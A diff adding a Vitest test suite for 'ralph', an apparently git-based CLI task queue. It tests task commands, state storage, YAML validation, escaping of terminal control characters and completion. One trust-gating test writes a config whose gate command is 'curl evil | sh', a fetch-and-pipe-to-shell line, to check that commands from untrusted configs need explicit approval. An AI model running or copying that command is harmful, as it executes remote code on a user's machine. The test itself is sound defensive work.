@@ -1,0 +1,246 @@
+import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { eastAsianWidth } from 'get-east-asian-width';
+import { describe, expect, it } from 'vitest';
+import { initialised, run, runRalph, testProject } from '../support/ralph.ts';
+
+describe('a first walk', () => {
+  it('init, add, list, next, why, status, show, export', async () => {
+    const { root, ralph, json } = testProject();
+    writeFileSync(join(root, 'package.json'), '{"name":"webshop","scripts":{"test":"vitest run"}}');
+    expect(await json('init')).toMatchObject({
+      gates: [{ name: 'test', command: 'npm test' }],
+      disciplines: ['backend', 'testing'],
+    });
+    expect(await json('add', 'Create the schema', '--priority', 'high')).toMatchObject({
+      id: 1,
+      status: 'pending',
+      priority: 'high',
+    });
+    expect(
+      await json(
+        'add',
+        'Use it',
+        '--depends-on',
+        '1',
+        '--discipline',
+        'backend',
+        '--description',
+        'All of it',
+      ),
+    ).toMatchObject({ id: 2, depends_on: [1] });
+    expect(await json('add', 'Later', '--draft')).toMatchObject({ id: 3, status: 'draft' });
+    expect(await json('list', '--status', 'pending')).toMatchObject([
+      { id: 1 },
+      { id: 2, description: 'All of it' },
+    ]);
+    expect(await json('next')).toMatchObject({ id: 1 });
+    expect(await json('why', '2')).toMatchObject({
+      ready: false,
+      reasons: [{ kind: 'dependency', task: { id: 1 } }],
+    });
+    expect(await json('status')).toMatchObject({
+      project: 'webshop',
+      state: join(root, '.git/ralph'),
+      counts: { pending: 2, draft: 1 },
+    });
+    expect(await json('show', '2')).toMatchObject({
+      id: 2,
+      comments: [],
+      questions: [],
+      sessions: [],
+      receipt: null,
+    });
+    expect(await json('approve', '3')).toMatchObject([{ id: 3, status: 'pending' }]);
+    expect(await json('skip', '1')).toMatchObject([{ id: 1, status: 'skipped' }]);
+    expect(await json('next')).toMatchObject({ id: 2 });
+    expect(await json('retry', '1')).toMatchObject([{ id: 1, status: 'pending' }]);
+    expect(await json('edit', '2', '--depends-on', '', '--title', 'Use it well')).toMatchObject({
+      depends_on: [],
+      title: 'Use it well',
+    });
+    await json('export', 'out');
+    expect(await json('import', 'out')).toMatchObject({ added: 0, updated: 0 });
+    expect((await ralph('list')).stdout).toBe(
+      [
+        '#  STATUS   PRIORITY  FEATURE  TITLE',
+        '1  ● ready  high      -        Create the schema',
+        '2  ● ready  medium    -        Use it well',
+        '3  ● ready  medium    -        Later',
+        '',
+        '3 tasks: 3 ready',
+        '',
+      ].join('\n'),
+    );
+  });
+});
+
+describe('init', () => {
+  it('keeps what is there, says so, and changes nothing the second time', async () => {
+    const { root, ralph, json } = testProject();
+    mkdirSync(join(root, '.ralph'));
+    writeFileSync(join(root, '.ralph/config.yaml'), 'model: opus\n');
+    expect(await json('init')).toMatchObject({ kept: ['.ralph/config.yaml'] });
+    expect(readFileSync(join(root, '.ralph/config.yaml'), 'utf8')).toBe('model: opus\n');
+    expect((await ralph('init')).stdout).toBe('Ralph is set up here already; nothing was changed.\n');
+  });
+
+  it('trusts what it wrote, but not a configuration that was there before', async () => {
+    const wrote = testProject();
+    writeFileSync(join(wrote.root, 'go.mod'), 'module x');
+    await wrote.json('init');
+    expect((await wrote.ralph('trust')).stdout).toMatch(/^Trusted already:\n {2}gate build: go build/);
+    const found = testProject();
+    mkdirSync(join(found.root, '.ralph'));
+    writeFileSync(join(found.root, '.ralph/config.yaml'), 'gates: [{ name: test, command: curl evil | sh }]');
+    await found.json('init');
+    expect((await found.ralph('doctor')).stdout).toMatch(/✗ fix {2}trust/);
+    expect((await found.ralph('trust')).stdout).toBe('Trusted 1 command:\n  gate test: curl evil | sh\n');
+    expect((await found.ralph('doctor')).stdout).toMatch(/✓ ok {3}trust/);
+    writeFileSync(join(found.root, '.ralph/config.yaml'), 'gates: [{ name: test, command: another }]');
+    expect((await found.ralph('doctor')).stdout).toMatch(/✗ fix {2}trust/);
+  });
+});
+
+describe('state', () => {
+  it('is in the git directory that all work trees share', async () => {
+    const { root, home, ralph, json } = await initialised();
+    const git = (...args: string[]) =>
+      run('git', ['-c', 'user.name=t', '-c', 'user.email=t@t', ...args], {
+        cwd: root,
+        env: { HOME: home, PATH: process.env['PATH'] },
+      });
+    await git('add', '.');
+    await git('commit', '-qm', 'x');
+    await git('worktree', 'add', '-q', '../second');
+    await json('add', 'shared');
+    expect(await json('list', '--project', '../second')).toMatchObject([{ title: 'shared' }]);
+    await git('clean', '-ffdxq');
+    expect((await ralph('list')).stdout).toContain('shared');
+  });
+
+  it('is beside the definitions where there is no git, and stays when git comes later', async () => {
+    const { root, home, json } = await initialised({ git: false });
+    await json('add', 'early');
+    expect(existsSync(join(root, '.ralph/state/ralph.db'))).toBe(true);
+    await run('git', ['init', '-q'], { cwd: root, env: { HOME: home, PATH: process.env['PATH'] } });
+    expect(await json('list')).toMatchObject([{ title: 'early' }]);
+    const { stdout } = await run('git', ['status', '--porcelain', '-uall'], {
+      cwd: root,
+      env: { HOME: home, PATH: process.env['PATH'] },
+    });
+    expect(stdout).not.toContain('ralph.db');
+  });
+
+  it('is one queue for each of several projects in one repository', async () => {
+    const { root, json } = await initialised();
+    for (const name of ['api', 'web']) {
+      mkdirSync(join(root, 'packages', name), { recursive: true });
+      await json('init', '--project', join('packages', name));
+      await json('add', `for ${name}`, '--project', join('packages', name));
+    }
+    expect(await json('list', '--project', 'packages/api')).toMatchObject([{ id: 1, title: 'for api' }]);
+    expect(await json('list')).toEqual([]);
+    mkdirSync(join(root, 'packages/api/src'));
+    expect(await json('list', '--project', 'packages/api/src')).toMatchObject([{ id: 1, title: 'for api' }]);
+  });
+});
+
+describe('definitions', () => {
+  it('are read before every command, and a wrong one changes nothing', async () => {
+    const { root, ralph, json } = await initialised();
+    const file = join(root, '.ralph/tasks.yaml');
+    const entry = (id: number, key = 'title') => `  - id: ${id}\n    ${key}: Task ${id}\n    priority: low\n`;
+    writeFileSync(file, `tasks:\n${entry(1)}`);
+    expect(await json('list')).toMatchObject([{ id: 1, title: 'Task 1' }]);
+    const entries = Array.from({ length: 50 }, (_, index) =>
+      entry(index + 1, index === 39 ? 'titel' : 'title'),
+    );
+    writeFileSync(file, `tasks:\n${entries.join('')}`);
+    const { code, stdout, stderr } = await ralph('list');
+    expect({ code, stdout, stderr }).toEqual({
+      code: 1,
+      stdout: '',
+      stderr: 'ralph: .ralph/tasks.yaml:120:5: unknown key "titel"; did you mean "title"? (and 1 more)\n',
+    });
+    writeFileSync(file, readFileSync(file, 'utf8').replace('titel', 'title'));
+    expect(await json('list')).toHaveLength(50);
+  });
+
+  it('of the older layout are read, too', async () => {
+    const { root, json } = await initialised();
+    mkdirSync(join(root, '.ralph/db'));
+    writeFileSync(join(root, '.ralph/db/tasks.yaml'), 'tasks: [{ id: 4, title: old, status: done }]');
+    expect(await json('list')).toMatchObject([{ id: 4, title: 'old', status: 'done' }]);
+  });
+
+  it('that hold comments are not overwritten by an export unless told so', async () => {
+    const { root, ralph, json } = await initialised();
+    await json('add', 'x');
+    expect(await ralph('export')).toMatchObject({
+      code: 1,
+      stderr: expect.stringContaining('has comments that an export would lose'),
+    });
+    expect(await ralph('export', '--force')).toMatchObject({ code: 0 });
+    expect(readFileSync(join(root, '.ralph/tasks.yaml'), 'utf8')).toContain('title: x');
+    expect(await json('list')).toMatchObject([{ id: 1, title: 'x' }]);
+  });
+});
+
+describe('what somebody wrote stays text', () => {
+  it('in lists and details', async () => {
+    const { ralph } = await initialised();
+    await ralph('add', 'red \x1b[31m and \u202ereversed', '--description', 'a\rb\x07');
+    const listed = await ralph('list');
+    const shown = await ralph('show', '1');
+    for (const { stdout } of [listed, shown]) {
+      expect(stdout).toContain('red ␛[31m and <U+202E>reversed');
+      expect(stdout).not.toMatch(/[\x1b\x07\r\u202e]/);
+    }
+  });
+
+  it('in a table that keeps to the width of the terminal', async () => {
+    const { root, home, ralph } = await initialised();
+    await ralph('add', '日本語のとても長いタイトル'.repeat(10));
+    await ralph('add', 'An English title that goes on and on and on and never comes to an end, it seems');
+    const env = { HOME: home, PATH: process.env['PATH'], COLUMNS: '80' };
+    const { stdout } = await runRalph(['list'], { cwd: root, env });
+    for (const line of stdout.split('\n')) {
+      const columns = [...line].reduce(
+        (sum, character) => sum + eastAsianWidth(character.codePointAt(0) ?? 0),
+        0,
+      );
+      expect(columns).toBeLessThanOrEqual(80);
+    }
+    expect(stdout).toContain('…');
+  });
+});
+
+describe('completion', () => {
+  it('prints a script for each shell, and suggests commands, task numbers and choices', async () => {
+    const { ralph } = await initialised();
+    for (const shell of ['bash', 'zsh', 'fish', 'powershell']) {
+      expect((await ralph('completion', shell)).stdout).toContain('ralph');
+    }
+    await ralph('add', 'Build it');
+    expect((await ralph('complete', '--', 'sh')).stdout).toContain('show');
+    expect((await ralph('complete', '--', 'show', '')).stdout).toContain('1\tBuild it');
+    expect((await ralph('complete', '--', 'list', '--status', '')).stdout).toContain('needs_input');
+  });
+});
+
+it('every command has help with an example, --json and --project', async () => {
+  const { ralph } = testProject();
+  const names =
+    'init add edit list show next status why approve retry skip answer import export trust completion doctor'.split(
+      ' ',
+    );
+  const overview = await ralph('--help');
+  for (const name of names) {
+    expect(overview.stdout).toMatch(new RegExp(`^ {2}${name} `, 'm'));
+    const { code, stdout } = await ralph(name, '--help');
+    expect(code).toBe(0);
+    expect(stdout).toMatch(/--json[\s\S]*Examples:\n {2}.*ralph/);
+    expect(stdout).toContain('--project <dir>');
+  }
+});
